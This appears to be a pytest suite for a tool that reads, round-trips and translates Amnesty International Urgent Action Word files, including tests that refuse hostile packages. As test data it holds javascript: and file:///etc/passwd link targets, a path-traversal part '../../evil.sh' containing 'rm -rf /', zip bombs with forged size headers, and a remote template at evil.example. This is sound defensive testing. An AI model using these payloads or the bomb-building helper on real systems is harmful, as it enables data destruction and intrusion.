"""Word UAs: reading, a faithful round trip, translations in the author's layout,
and packages that must be refused."""

from __future__ import annotations

import io
import shutil
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from conftest import REPO
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.text.hyperlink import Hyperlink
from docx_ua import LINK, make_ua_docx

from uai18n.errors import UserError
from uai18n.localize import localize
from uai18n.model import LineKind, Role
from uai18n.po import read_catalog, write_catalog
from uai18n.readers.docx import check_package, open_docx, read_docx
from uai18n.writers.docx import render_docx, safe_target
from uai18n.writers.html import inline_html, render_html

DOC = "ua-6-19-lawyers"


@pytest.fixture
def source(tmp_path: Path) -> Path:
    return make_ua_docx(tmp_path / f"{DOC}.docx")


@pytest.fixture
def docx_project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "source").mkdir(parents=True)
    shutil.copy(REPO / "uai18n.toml", root / "uai18n.toml")
    make_ua_docx(root / "source" / f"{DOC}.docx")
    return root


def _read(path: Path):
    return read_docx(path.read_bytes(), doc_id=DOC, source_path=str(path), language="en")


def _layout(path_or_bytes) -> list[tuple]:  # type: ignore[no-untyped-def]
    """Per paragraph: style, and runs merged by formatting (Word splits at will)."""
    data = path_or_bytes.read_bytes() if isinstance(path_or_bytes, Path) else path_or_bytes
    document = docx.Document(io.BytesIO(data))
    layout = []
    for paragraph in document.paragraphs:
        runs: list[list] = []
        for item in paragraph.iter_inner_content():
            if isinstance(item, Hyperlink):
                runs.append(["link", item.url, item.text])
                continue
            key = (bool(item.bold), bool(item.italic))
            if runs and runs[-1][0] == key:
                runs[-1][1] += item.text
            else:
                runs.append([key, item.text])
        layout.append((paragraph.style.name, [tuple(run) for run in runs]))
    return layout


def test_reading_a_word_ua(source: Path) -> None:
    document = _read(source)
    roles = [block.role for block in document.blocks]
    assert roles[:5] == [Role.BANNER, Role.TITLE, Role.SUMMARY, Role.CALL_TO_ACTION, Role.ADDRESSEE]
    texts = [segment.text for segment in document.segments()]
    assert "Lawyers <b>Mahmoud Farid</b> and Hoda Nasr were arrested on 2 February 2019." in texts
    linked = [segment for segment in document.segments() if segment.links]
    assert [(s.text.split("<a1>")[1].split("</a1>")[0], s.links) for s in linked] == [
        ("a report by Amnesty International", (LINK,))
    ]
    addressee = next(block for block in document.blocks if block.role is Role.ADDRESSEE)
    names = [line.verbatim for line in addressee.lines if line.kind is LineKind.NAME]
    assert names == ["Counsellor Hamada al-Sawy", "Mohamed Abdelghaffar"]  # two addressees
    assert {line.line for line in addressee.lines} == {5, 6}  # two paragraphs, line breaks


def test_an_empty_catalogue_gives_back_the_source(source: Path) -> None:
    document = _read(source)
    localized = localize(document, "en", {}.get, variable_locale=None)
    localized = type(localized)(**{**localized.__dict__, "source_file": str(source)})
    built = render_docx(localized)
    assert _layout(built) == _layout(source)  # same paragraphs, styles, runs, links
    rebuilt = docx.Document(io.BytesIO(built))
    assert rebuilt.sections[0].header.paragraphs[0].text == "Amnesty International — UA 6/19"
    assert rebuilt.sections[0].footer.paragraphs[0].text == "Index: MDE 12/0001/2019"
    assert render_docx(localized) == built  # the same bytes every time


def test_unsafe_link_targets_are_not_written(source: Path) -> None:
    """The HTML writer's rule: javascript:, data:, file: and the like lose their
    target, in the body, a header or anywhere else, and keep their text."""
    word = docx.Document(str(source))
    header = word.sections[0].header.paragraphs[0]
    rid = header.part.relate_to("JavaScript:alert(2)", RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rid)
    link.append(header.add_run(" (contact)")._r)
    header._p.append(link)
    word.save(str(source))
    with zipfile.ZipFile(source) as original:
        members = {name: original.read(name) for name in original.namelist()}
    rels = members["word/_rels/document.xml.rels"]
    assert rels.count(LINK.encode()) == 1
    members["word/_rels/document.xml.rels"] = rels.replace(LINK.encode(), b"javascript:alert(1)")
    source.write_bytes(_zip(members))
    document = _read(source)
    assert [s.links for s in document.segments() if s.links] == [("javascript:alert(1)",)]
    localized = localize(document, "en", {}.get, variable_locale=None)
    localized = type(localized)(**{**localized.__dict__, "source_file": str(source)})
    built = render_docx(localized)
    with zipfile.ZipFile(io.BytesIO(built)) as archive:
        for name in archive.namelist():
            assert b"javascript" not in archive.read(name).lower(), name
    layout = _layout(built)
    assert not any(run[0] == "link" for _, runs in layout for run in runs)
    assert "a report by Amnesty International" in "".join(
        run[1] for _, runs in layout for run in runs
    )
    rebuilt = docx.Document(io.BytesIO(built))
    assert rebuilt.sections[0].header.paragraphs[0].text == (
        "Amnesty International — UA 6/19 (contact)"
    )
    html = render_html(localized)
    assert "a report by Amnesty International" in html and "javascript" not in html.lower()


@pytest.mark.parametrize(
    ("target", "safe"),
    [
        (LINK, True),
        ("mailto:x@example.org", True),
        ("tel:+201234", True),
        ("HTTPS://EXAMPLE.ORG/", True),
        ("javascript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("file:///etc/passwd", False),
        ("vbscript:msgbox", False),
        ("#anchor", False),
    ],
)
def test_word_and_html_output_share_one_link_rule(target: str, safe: bool) -> None:
    assert safe_target(target) is safe
    (link,) = [node for node in inline_html("<a1>x</a1>", (target,)) if not isinstance(node, str)]
    assert (link.get("href") is not None) is safe


def test_translations_go_into_the_authors_layout(docx_project: Path, cli) -> None:
    assert cli("-C", str(docx_project), "run").exit_code == 1  # nothing translated yet
    po = docx_project / "po/fr" / f"{DOC}.po"
    catalog = read_catalog(po, "fr")
    french = {
        "Dear Counsellor,": "Monsieur le Conseiller,",
        "I urge you to release them <i>immediately and unconditionally</i>.":
            "Je vous demande de les libérer <i>immédiatement et sans condition</i>.",
        "According to <a1>a report by Amnesty International</a1>, they were questioned "
        "without a lawyer present.":
            "Selon <a1>un rapport d’Amnesty International</a1>, ils ont été interrogés sans "
            "avocat.",
    }  # fmt: skip
    for entry in catalog:
        entry.msgstr = french.get(entry.msgid, entry.msgstr)
    write_catalog(po, catalog)
    result = cli("-C", str(docx_project), "build", "--lang", "fr", "--draft")
    assert result.exit_code == 0, result.output
    built = docx_project / "output/fr" / f"{DOC}.docx"
    layout = dict(enumerate(_layout(built)))
    assert layout[6] == ("Normal", [((False, False), "Monsieur le Conseiller,")])
    assert layout[7][1][1] == ("link", LINK, "un rapport d’Amnesty International")
    assert layout[8][1] == [
        ((False, False), "Je vous demande de les libérer "),
        ((False, True), "immédiatement et sans condition"),
        ((False, False), "."),
    ]
    assert layout[1][0] == "Heading 1" and layout[10][0] == "Heading 2"  # styles kept
    assert (docx_project / "output/fr" / f"{DOC}.html").exists()  # and the usual formats


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _with(source: Path, name: str, data: bytes) -> bytes:
    with zipfile.ZipFile(source) as original:
        members = {member: original.read(member) for member in original.namelist()}
    members[name] = data
    return _zip(members)


def test_hostile_packages_are_refused(source: Path) -> None:
    cases = {
        b"PK\x03\x04 this is not a zip": "not a Word document (.docx is a zip; this is not one)",
        _zip({"hello.txt": b"hi"}): "not a Word document: no word/document.xml",
        _with(source, "../../evil.sh", b"rm -rf /"): "part name '../../evil.sh' leaves the package",
        _with(source, "word/bomb.bin", b"\0" * (30 * 1024 * 1024)): "inflates",
    }
    for data, expected in cases.items():
        with pytest.raises(UserError) as caught:
            check_package(data, "source/x.docx")
        assert expected in str(caught.value)
        assert str(caught.value).startswith("source/x.docx")


def _lying(source: Path, part: str, real: bytes, declared: int, *, crc_of_prefix: bool) -> bytes:
    """The source package with ``part`` holding ``real`` while its local and central
    headers say it holds ``declared`` bytes; with ``crc_of_prefix`` the CRC-32 matches
    those first bytes, so zipfile's own checks pass."""
    data = bytearray(_with(source, part, real))
    name = part.encode()
    crc = zlib.crc32(real[:declared])
    # (signature, offset of the name length, of the name, of the CRC, of the size)
    for signature, length_at, name_at, crc_at, size_at in (
        (b"PK\x03\x04", 26, 30, 14, 22),
        (b"PK\x01\x02", 28, 46, 16, 24),
    ):
        found = 0
        at = data.find(signature)
        while at >= 0:
            (length,) = struct.unpack_from("<H", data, at + length_at)
            if data[at + name_at : at + name_at + length] == name:
                struct.pack_into("<I", data, at + size_at, declared)
                if crc_of_prefix:
                    struct.pack_into("<I", data, at + crc_at, crc)
                found += 1
            at = data.find(signature, at + 4)
        assert found == 1
    return bytes(data)


@pytest.mark.parametrize("crc_of_prefix", [True, False])
@pytest.mark.parametrize("part", ["word/bomb.bin", "docProps/thumbnail.jpeg"])
def test_a_part_lying_about_its_size_is_counted_while_inflating(
    source: Path, crc_of_prefix: bool, part: str
) -> None:
    """4 MiB of zeros declared as 1,000 bytes: zipfile would inflate all of it in
    one call before cutting it to 1,000 (python-docx reads the thumbnail); the
    guard reads in chunks and stops one byte past the declared size."""
    real = b"\0" * (4 * 1024 * 1024)
    data = _lying(source, part, real, 1000, crc_of_prefix=crc_of_prefix)
    assert len(data) < 100_000
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.getinfo(part).file_size == 1000  # the lie is believed
    tracemalloc.start()
    try:
        with pytest.raises(UserError) as caught:
            open_docx(data, "source/x.docx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(caught.value) == (
        f"source/x.docx: part {part!r} holds more than the 1000 bytes it declares: "
        "refused (zip bomb?)"
    )
    assert peak < 2.5 * 1024 * 1024, peak  # the real parts (1.6 MB), not the 4 MiB bomb


def test_a_part_holding_less_than_it_declares_is_refused(source: Path) -> None:
    data = _lying(source, "word/bomb.bin", b"x" * 5000, 9000, crc_of_prefix=False)
    with pytest.raises(UserError) as caught:
        check_package(data, "source/x.docx")
    assert str(caught.value) == (
        "source/x.docx: part 'word/bomb.bin' declares 9000 bytes but holds 5000: refused"
    )


@pytest.mark.parametrize(
    "name", ["..\\..\\evil.sh", "word\\..\\..\\evil.sh", "C:/evil.sh", "/etc/evil", "a/../../b"]
)
def test_part_names_that_climb_out_on_any_system_are_refused(source: Path, name: str) -> None:
    with pytest.raises(UserError) as caught:
        check_package(_with(source, name, b"rm -rf /"), "source/x.docx")
    assert str(caught.value) == f"source/x.docx: part name {name!r} leaves the package: refused"


def test_python_docx_gets_the_package_as_inflated(source: Path) -> None:
    package = check_package(source.read_bytes(), "source/x.docx")
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(io.BytesIO(package)) as rebuilt:
        assert rebuilt.namelist() == original.namelist()
        for name in original.namelist():
            assert rebuilt.read(name) == original.read(name)
    assert [p.text for p in open_docx(source.read_bytes(), "x").paragraphs] == [
        p.text for p in docx.Document(str(source)).paragraphs
    ]


def test_an_external_template_is_refused(source: Path) -> None:
    with zipfile.ZipFile(source) as original:
        rels = (
            original.read("word/_rels/settings.xml.rels")
            if "word/_rels/settings.xml.rels" in original.namelist()
            else None
        )
    relationship = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    assert rels is None or b"attachedTemplate" not in rels
    data = _with(source, "word/_rels/settings.xml.rels", relationship)
    with pytest.raises(UserError) as caught:
        check_package(data, "source/x.docx")
    assert str(caught.value) == (
        "source/x.docx!word/_rels/settings.xml.rels:2: external relationship "
        "(attachedTemplate) to 'http://evil.example/t.dotm': refused"
    )


def test_bad_docx_sources_through_the_cli_write_nothing(docx_project: Path, cli) -> None:
    target = docx_project / "source" / f"{DOC}.docx"
    target.write_bytes(b"garbage")
    result = cli("-C", str(docx_project), "run")
    assert result.exit_code == 2
    assert result.output == (
        f"uai18n: source/{DOC}.docx: not a Word document (.docx is a zip; this is not one)\n"
    )
    assert not (docx_project / "output").exists() and not (docx_project / "po").exists()
    plain = docx.Document()
    plain.add_paragraph("Minutes of the meeting.")
    plain.save(target)
    result = cli("-C", str(docx_project), "run")
    assert result.exit_code == 2
    assert "not an Urgent Action layout: missing the call to action" in result.output
